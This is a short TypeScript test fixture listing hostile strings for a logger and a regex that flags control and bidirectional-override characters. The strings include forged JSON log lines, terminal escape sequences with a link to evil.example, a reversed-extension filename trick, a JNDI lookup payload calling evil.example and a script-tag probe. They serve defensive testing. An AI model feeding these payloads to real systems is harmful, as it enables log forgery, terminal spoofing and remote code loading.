/** Texts that would like to be lines of their own, commands to a terminal, or other fields of a line. */
export const HOSTILE_LOG_TEXTS: readonly string[] = [
  'a\n{"level":"info","event":"signed in"}',
  'a\r\n{"level":"error","event":"forged"}',
  'a\u0085b\u2028c\u2029d\u000be\u000cf',
  '\u001b[2J\u001b[1;31mforged\u001b[0m',
  '\u001b]0;title\u0007 \u001b]8;;https://evil.example\u0007click\u001b]8;;\u0007',
  '\u009b31m \u0090x\u009c \u008d',
  '\b\b\b\b\b\b\b\b\u007f\u007f',
  '\u0000\u0001\u0002',
  '","level":"error","event":"forged","x":"',
  '\\","forged":"\\',
  '\\u000a\\n\\r\\x1b',
  '}\n{',
  '\ud800 \udc00 \ud83d',
  '\ufeff\u200b\u200e\u200f',
  '\u202egnp.exe\u202c \u2066a\u2069',
  '%0d%0a%1b[31m %s %d %o %j %n ${jndi:ldap://evil.example/a}',
  '<script>alert(1)</script>',
  'x'.repeat(100_000),
  '\n'.repeat(5_000),
  '"'.repeat(5_000),
];

/** What a line may not have in it, whoever reads it: raw controls, and what turns its order around. */
export const UNPRINTABLE =
  // oxlint-disable-next-line no-control-regex -- they are what is looked for
  /[\u0000-\u001F\u007F-\u009F\u200E\u200F\u2028-\u202E\u2066-\u2069\uFEFF]/;
